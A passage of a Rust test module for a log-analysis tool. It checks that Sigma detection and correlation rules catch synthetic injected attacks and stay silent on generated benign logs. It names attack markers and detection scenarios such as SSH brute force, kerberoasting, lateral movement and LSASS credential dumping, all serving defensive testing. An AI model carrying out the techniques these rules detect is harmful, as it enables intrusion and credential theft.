        assert_eq!(entities.len(), truth.len(), "attackers share an entity");
        let small = GeneratorConfig { events: 300_000, ..cfg.clone() };
        let (mut a, mut b) = (Vec::new(), Vec::new());
        write_all(&small, &mut a).unwrap();
        write_all(&small, &mut b).unwrap();
        assert!(a == b);
        // A Zeek TSV stream carries the scans as TSV; a stream without the format skips them.
        let tsv = GeneratorConfig { format: GenFormat::ZeekTsv, events: 400_000, ..small.clone() };
        let kinds: Vec<_> = ground_truth(&tsv).into_iter().map(|t| (t.kind, t.format)).collect();
        assert_eq!(kinds, [("vertical_port_scan", GenFormat::ZeekTsv), ("horizontal_port_scan", GenFormat::ZeekTsv)]);
    }

    /// The background of each format, without injections.
    fn benign(format: GenFormat) -> (GeneratorConfig, Vec<u8>) {
        let cfg = GeneratorConfig { seed: 23, events: 50_000, format, ..GeneratorConfig::default() };
        let mut bytes = Vec::new();
        write_all(&cfg, &mut bytes).unwrap();
        (cfg, bytes)
    }

    const FORMATS: [GenFormat; 4] = [GenFormat::Syslog, GenFormat::Apache, GenFormat::Zeek, GenFormat::Windows];

    #[test]
    fn attacker_entities_never_occur_in_the_background() {
        let cfg = GeneratorConfig { events: 0, injections: Injection::all(), ..GeneratorConfig::default() };
        let generator = Generator::new(cfg);
        let mut needles: Vec<Vec<u8>> = generator.scheduled.iter().map(|s| s.entity.replace('\\', "\\\\").into_bytes()).collect();
        for slot in 0..13 {
            needles.push(ip_string(attacker_ip(slot, 1)).into_bytes());
            let mut host = Vec::new();
            put_attacker_host(&mut host, slot);
            needles.push(host);
        }
        for marker in ["gobuster", "webadmin", "itadmin", "helpdesk", "svcupd", "Failed password for root", "Accepted password for root"] {
            needles.push(marker.as_bytes().to_vec());
        }
        for format in FORMATS {
            let (_, bytes) = benign(format);
            for line in bytes.split(|&b| b == b'\n') {
                for needle in &needles {
                    assert!(
                        !line.windows(needle.len()).any(|w| w == &needle[..]),
                        "{format:?} background has {}: {}",
                        String::from_utf8_lossy(needle),
                        String::from_utf8_lossy(line)
                    );
                }
            }
        }
    }

    // ---- the default rule set ------------------------------------------------------------------

    fn rules_dir() -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("topologies/rules")
    }

    /// A correlation rule as far as this test evaluates it (spec v2.1 fields).
    #[derive(Clone)]
    struct Correlation {
        title: String,
        name: Option<String>,
        kind: String,
        rules: Vec<String>,
        group_by: Vec<String>,
        timespan_ms: i64,
        field: Option<String>,
        gte: usize,
        /// alias -> (rule name -> field)
        aliases: BTreeMap<String, BTreeMap<String, String>>,
    }

    fn timespan_ms(text: &str) -> i64 {
        let (n, unit) = text.split_at(text.len() - 1);
        let n: i64 = n.parse().unwrap();
        n * match unit {
            "s" => 1_000,
            "m" => 60_000,
            "h" => 3_600_000,
            "d" => 86_400_000,
            _ => panic!("bad timespan {text}"),
        }
    }

    fn strs(node: Option<&Node>) -> Vec<String> {
        match node.map(|n| &n.kind) {
            Some(crate::rules::yaml::NodeKind::Seq(items)) => items.iter().map(|n| n.as_str().unwrap().to_string()).collect(),
            Some(crate::rules::yaml::NodeKind::Scalar { text, .. }) => vec![text.clone()],
            _ => Vec::new(),
        }
    }

    /// The rule set, the names of its detection rules (by index) and its correlations.
    fn load_rules() -> (RuleSet, Vec<Option<String>>, Vec<Correlation>) {
        let rules = RuleSet::load(&[rules_dir()], &Default::default()).unwrap_or_else(|e| panic!("{e:#?}"));
        let mut files: Vec<PathBuf> = std::fs::read_dir(rules_dir()).unwrap().map(|e| e.unwrap().path()).collect();
        files.sort();
        let mut names = Vec::new();
        let mut correlations = Vec::new();
        for file in files {
            for doc in document::load_file(&file).unwrap() {
                match doc {
                    SigmaDocument::Rule(rule) => names.push(rule.name.clone()),
                    SigmaDocument::Correlation(c) => {
                        let body = c.node.get("correlation").unwrap();
                        let condition = body.get("condition");
                        correlations.push(Correlation {
                            title: c.title.clone().unwrap(),
                            name: c.name.clone(),
                            kind: body.get("type").unwrap().as_str().unwrap().to_string(),
                            rules: strs(body.get("rules")),
                            group_by: strs(body.get("group-by")),
                            timespan_ms: timespan_ms(body.get("timespan").unwrap().as_str().unwrap()),
                            field: condition.and_then(|c| c.get("field")).and_then(|f| f.as_str()).map(str::to_string),
                            gte: condition.and_then(|c| c.get("gte")).map_or(0, |g| g.as_str().unwrap().parse().unwrap()),
                            aliases: body
                                .get("aliases")
                                .and_then(|a| a.as_map())
                                .map(|entries| {
                                    entries
                                        .iter()
                                        .map(|(k, v)| {
                                            let per_rule = v
                                                .as_map()
                                                .unwrap_or(&[])
                                                .iter()
                                                .map(|(r, f)| (r.as_str().unwrap().to_string(), f.as_str().unwrap().to_string()))
                                                .collect();
                                            (k.as_str().unwrap().to_string(), per_rule)
                                        })
                                        .collect()
                                })
                                .unwrap_or_default(),
                        });
                    }
                }
            }
        }
        assert_eq!(names.len(), rules.len());
        (rules, names, correlations)
    }

    /// What a correlation saw: whether it fired, for which groups, and the largest count or
    /// distinct count any group reached within one timespan.
    #[derive(Debug, Default)]
    struct Outcome {
        fired: BTreeSet<Vec<String>>,
        max: usize,
    }

    /// A small reference evaluation of Sigma correlations over sorted events: sliding windows
    /// for event_count and value_count, earliest chaining for temporal_ordered.
    struct Evaluator<'a> {
        rules: &'a RuleSet,
        names: &'a [Option<String>],
        correlations: &'a [Correlation],
        events: &'a [(Event, bool)],
        matches: Vec<Vec<u32>>,
    }

    impl<'a> Evaluator<'a> {
        fn new(rules: &'a RuleSet, names: &'a [Option<String>], correlations: &'a [Correlation], events: &'a [(Event, bool)]) -> Self {
            // As a pipeline matches: only the rules whose logsource admits the event.
            let mut matcher = crate::rules::logsource::RuleMatcher::new(std::sync::Arc::new(rules.clone()));
            let matches = events
                .iter()
                .map(|(ev, _)| {
                    let mut hits = Vec::new();
                    matcher.matching(ev, &mut hits);
                    let mut all = Vec::new();
                    rules.matching(ev, &mut all);
                    assert_eq!(hits, all, "a rule matched an event of another log source");
                    hits
                })
                .collect();
            Evaluator { rules, names, correlations, events, matches }
        }

        /// (time, group key, value of `field`) of every hit of rule `name` keyed by `group_by`.
        fn hits(&self, name: &str, group_by: &[String], field: Option<&str>) -> Vec<(i64, Vec<String>, String)> {
            if let Some(i) = self.names.iter().position(|n| n.as_deref() == Some(name)) {
                assert!(i < self.rules.len());
                return self
                    .events
                    .iter()
                    .zip(&self.matches)
                    .filter(|(_, m)| m.contains(&(i as u32)))
                    .filter_map(|((ev, _), _)| {
                        let key: Option<Vec<String>> = group_by.iter().map(|f| text(ev, f)).collect();
                        let value = field.map_or(Some(String::new()), |f| text(ev, f));
                        Some((ev.ts, key?, value?))
                    })
                    .collect();
            }
            let c = self.correlations.iter().find(|c| c.name.as_deref() == Some(name)).unwrap_or_else(|| panic!("no rule named {name}"));
            assert_eq!(&c.group_by, group_by, "{name} is chained with another group-by");
            self.fire_times(c).into_iter().map(|(t, k)| (t, k, String::new())).collect()
        }

        fn fire_times(&self, c: &Correlation) -> Vec<(i64, Vec<String>)> {
            let mut fires = Vec::new();
            match c.kind.as_str() {
                "event_count" | "value_count" => {
                    let mut groups: BTreeMap<Vec<String>, Vec<(i64, String)>> = BTreeMap::new();
                    for name in &c.rules {
                        // An alias names the group-by field per referenced rule.
                        let group_by: Vec<String> = c.group_by.iter().map(|g| c.aliases.get(g).and_then(|a| a.get(name)).unwrap_or(g).clone()).collect();
                        for (t, key, value) in self.hits(name, &group_by, c.field.as_deref()) {
                            groups.entry(key).or_default().push((t, value));
                        }
                    }
                    for (key, mut hits) in groups {
                        hits.sort();
                        let mut from = 0;
                        for to in 0..hits.len() {
                            while hits[to].0 - hits[from].0 >= c.timespan_ms {
                                from += 1;
                            }
                            let n = if c.kind == "event_count" { to + 1 - from } else { hits[from..=to].iter().map(|h| &h.1).collect::<HashSet<_>>().len() };
                            if n >= c.gte {
                                fires.push((hits[to].0, key.clone()));
                            }
                        }
                    }
                }
                "temporal_ordered" => {
                    let steps: Vec<Vec<(i64, Vec<String>, String)>> = c.rules.iter().map(|n| self.hits(n, &c.group_by, None)).collect();
                    let keys: BTreeSet<Vec<String>> = steps[0].iter().map(|h| h.1.clone()).collect();
                    for key in keys {
                        for start in steps[0].iter().filter(|h| h.1 == key).map(|h| h.0) {
                            let mut t = start;
                            let complete = steps[1..].iter().all(|step| match step.iter().filter(|h| h.1 == key && h.0 >= t).map(|h| h.0).min() {
                                Some(next) if next - start < c.timespan_ms => {
                                    t = next;
                                    true
                                }
                                _ => false,
                            });
                            if complete {
                                fires.push((t, key.clone()));
                                break;
                            }
                        }
                    }
                }
                // A baseline judges an entity against days of its own history; the generator's
                // minutes of traffic end before any baseline has learned, so it stays silent
                // here as it does in `vigil replay` (tests/baseline_rules.rs exercises them).
                "x-vigil-baseline" => {}
                other => panic!("{}: correlation type {other} not evaluated here", c.title),
            }
            fires
        }

        fn outcome(&self, c: &Correlation) -> Outcome {
            let fired = self.fire_times(c).into_iter().map(|(_, k)| k).collect();
            // The largest count any group reached (up to four times the threshold): the highest
            // threshold at which the correlation still fires.
            let max = if c.kind == "temporal_ordered" {
                0
            } else {
                (1..=c.gte.max(1) * 4).rev().find(|&gte| !self.fire_times(&Correlation { gte, ..c.clone() }).is_empty()).unwrap_or(0)
            };
            Outcome { fired, max }
        }
    }

    /// The correlation (or, for LSASS, the detection) that each scenario is meant to trip.
    fn expected_rule(kind: &str) -> &'static str {
        match kind {
            "ssh_brute_force" => "SSH Brute Force",
            "ssh_brute_force_success" => "SSH Brute Force Followed By Successful Login",
            "password_spray" => "SSH Password Spraying",
            "low_and_slow" => "SSH Low And Slow Root Password Guessing",
            "pam_brute_force" => "PAM Authentication Failure Brute Force",
            "web_scan" => "Web Content Discovery Scan",
            "vertical_port_scan" => "Vertical Port Scan",
            "horizontal_port_scan" => "Horizontal Port Scan Of Internal Hosts",
            "compromise_chain" => "Linux Server Compromise Chain",
            "windows_logon_failures" => "Windows Logon Failures For Many Accounts From One Source",
            "kerberoasting" => "Kerberoasting",
            "lateral_movement" => "Lateral Movement Via Network Logons To Many Hosts",
            "lsass_access" => "LSASS Memory Access With Credential Dumping Rights",
            other => panic!("no rule for {other}"),
        }
    }

    #[test]
    fn default_rules_load_and_are_complete() {
        let (rules, names, correlations) = load_rules();
        assert!(rules.warnings.is_empty(), "{:#?}", rules.warnings);
        assert_eq!(rules.correlations.len(), correlations.len());
        let mut ids = HashSet::new();
        for r in &rules.rules {
            assert!(ids.insert(r.id.clone().unwrap()), "duplicate id");
            assert!(r.tags.iter().any(|t| t.starts_with("attack.t")), "{}: no technique tag", r.title);
            assert!(r.level.is_some());
        }
        for c in &rules.correlations {
            assert!(ids.insert(c.id.clone().unwrap()), "duplicate id");
        }
        let named: HashSet<&str> = names.iter().flatten().map(String::as_str).chain(correlations.iter().filter_map(|c| c.name.as_deref())).collect();
        for c in &correlations {
            assert!(!c.group_by.is_empty() && c.timespan_ms > 0, "{}", c.title);
            assert!(matches!(c.kind.as_str(), "temporal_ordered" | "x-vigil-baseline") || c.gte > 0, "{}", c.title);
            assert_eq!(c.field.is_some(), c.kind == "value_count", "{}", c.title);
            for r in &c.rules {
                assert!(named.contains(r.as_str()), "{}: unknown rule {r}", c.title);
            }
        }
        for injection in Injection::all() {
            let title = expected_rule(injection.kind());
            assert!(correlations.iter().any(|c| c.title == title) || rules.rules.iter().any(|r| r.title == title), "{title}");
        }
    }

    #[test]
    fn default_rules_detect_every_injection_and_stay_quiet_on_the_background() {
        let (rules, names, correlations) = load_rules();
        // Every detection rule matches some injected line.
        let mut matched_attack = vec![false; rules.len()];
        for injection in Injection::all() {
            let AttackRun { truth, events, .. } = run(injection);
            let eval = Evaluator::new(&rules, &names, &correlations, &events);
            for ((_, hit), m) in events.iter().zip(&eval.matches) {
                if *hit || (injection.kind() == "compromise_chain" && !m.is_empty()) {
                    for &i in m {
                        matched_attack[i as usize] |= *hit || rules.rules[i as usize].title.contains("Sudo");
                    }
                }
            }
            let title = expected_rule(truth.kind);
            match correlations.iter().find(|c| c.title == title) {
                Some(c) => {
                    let outcome = eval.outcome(c);
                    assert!(!outcome.fired.is_empty(), "{title} missed {}", truth.kind);
                    if truth.kind != "compromise_chain" {
                        assert!(outcome.fired.iter().all(|key| key.contains(&truth.entity)), "{title} fired on {:?}, attacker {}", outcome.fired, truth.entity);
                    }
                    eprintln!("{:>24}: {title} fired; largest group value {}", truth.kind, outcome.max);
                }
                None => {
                    let i = rules.rules.iter().position(|r| r.title == title).unwrap() as u32;
                    let hits: Vec<bool> = events.iter().zip(&eval.matches).filter(|(_, m)| m.contains(&i)).map(|((_, hit), _)| *hit).collect();
                    assert_eq!(hits.len() as u64, truth.lines, "{title}");
                    assert!(hits.iter().all(|&h| h));
                }
            }
        }
        for (i, r) in rules.rules.iter().enumerate() {
            // The generator writes no Cowrie honeypot JSON; those rules are tested on the fixture.
            if r.logsource.product.as_deref() == Some("cowrie") {
                continue;
            }
            // Attacks the generator does not inject; tests/default_rules.rs covers these rules.
            if matches!(r.name.as_deref(), Some("pam_authentication_failure_named_host" | "windows_local_logon_failure" | "windows_winrm_session")) {
                continue;
            }
            assert!(matched_attack[i], "{} matches no injected line", r.title);
        }
        // The background: no non-informational detection matches, no correlation fires.
        for format in FORMATS {
            let (cfg, bytes) = benign(format);
            let events = parse(format, &cfg, &bytes, b"");
            assert_eq!(events.len(), 50_000);
            let eval = Evaluator::new(&rules, &names, &correlations, &events);
            let mut counts = vec![0usize; rules.len()];
            for m in &eval.matches {
                for &i in m {
                    counts[i as usize] += 1;
                }
            }
            for (i, r) in rules.rules.iter().enumerate() {
                if counts[i] > 0 {
                    eprintln!("{:>8}: {:>6} background matches of {}", format.name(), counts[i], r.title);
                }
                assert!(counts[i] == 0 || r.level.as_deref() == Some("informational"), "{format:?}: {} matched {} background events", r.title, counts[i]);
            }
            for c in &correlations {
                let outcome = eval.outcome(c);
                assert!(outcome.fired.is_empty(), "{format:?}: {} fired on the background: {:?}", c.title, outcome.fired);
                if outcome.max > 0 {
                    eprintln!("{:>8}: {} background max {} (threshold {})", format.name(), c.title, outcome.max, c.gte);
                }
            }
        }
    }

    /// Prints, for each correlation, the largest count any background entity reaches in a
    /// default Mixed stream of 1,000,000 events (500 s of event time):
    /// `cargo test --lib background_rates -- --ignored --nocapture`.
    #[test]
    #[ignore = "measurement"]
    fn background_rates() {
        let (rules, names, correlations) = load_rules();
        let cfg = GeneratorConfig { seed: 5, events: 1_000_000, ..GeneratorConfig::default() };
        let dir = tempfile::tempdir().unwrap();
        for ((path, _), format) in write_split(&cfg, dir.path()).unwrap().into_iter().zip(MIXED_PARTS) {
            let bytes = std::fs::read(path).unwrap();
            let events = parse(format, &cfg, &bytes, b"");
            let eval = Evaluator::new(&rules, &names, &correlations, &events);
            for c in &correlations {
                let outcome = eval.outcome(c);
                if outcome.max > 0 || !outcome.fired.is_empty() {
                    eprintln!(
                        "{:>8} ({} events): {}: max {} (threshold {}), fired {}",
                        format.name(),
                        events.len(),
                        c.title,
                        outcome.max,
                        c.gte,
                        outcome.fired.len()
                    );
                }
            }
        }
    }
}
